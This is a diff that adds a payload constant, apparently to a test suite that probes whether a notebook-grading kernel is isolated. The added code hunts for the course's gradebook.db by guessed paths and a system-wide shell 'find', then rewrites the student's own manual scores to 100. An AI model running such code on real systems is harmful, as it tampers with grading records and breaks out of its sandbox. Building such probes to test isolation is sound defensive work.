@@ -88,3 +88,35 @@ PRELOCK_SWAPPER = (
     )
     + "from IPython.extensions.storemagic import load_ipython_extension  # noqa: F401 - %store still works\n"
 )
+
+
+# looks for the course's gradebook from the kernel, by the paths a student could guess and from a shell
+# (find over the whole file system), and gives its own grades full marks "by hand" wherever it can open
+# one (only its own rows: where a run is not sealed, its classmates' grades stay as they are); prints
+# what it tried
+GRADEBOOK_WRITER = (
+    FORK_EXEC
+    + r"""
+import os, sqlite3, time
+_OWN = ("UPDATE grade SET manual_score = 100 WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn "
+        "JOIN submitted_assignment sa ON sn.assignment_id = sa.id WHERE sa.student_id = 'STUDENT')")
+guesses = {os.path.abspath(p) for p in ("../../../gradebook.db", "../../gradebook.db", "../gradebook.db")}
+guesses.add(os.path.join(os.environ.get("ATTENTION_COURSE_WORK", "/nowhere"), "gradebook.db"))
+for path in sorted(guesses):
+    try:
+        con = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
+        con.execute(_OWN)
+        con.commit()
+        print("WROTE", path)
+    except Exception as e:
+        print("could not write", path, type(e).__name__)
+_shell("for p in $(find / \\( -path /proc -o -path /sys \\) -prune -o -name gradebook.db -print 2>/dev/null | head -5); do "
+       "python3 -c 'import sqlite3, sys; c = sqlite3.connect(sys.argv[1]); c.execute(sys.argv[2]); c.commit()' "
+       f"\"$p\" \"{_OWN}\" && echo \"SHELL WROTE $p\"; done > gb.txt 2>&1; echo done >> gb.txt")
+for _ in range(400):
+    if os.path.exists("gb.txt") and "done" in open("gb.txt").read():
+        break
+    time.sleep(0.05)
+print(open("gb.txt").read() if os.path.exists("gb.txt") else "the shell wrote nothing")
+"""
+)
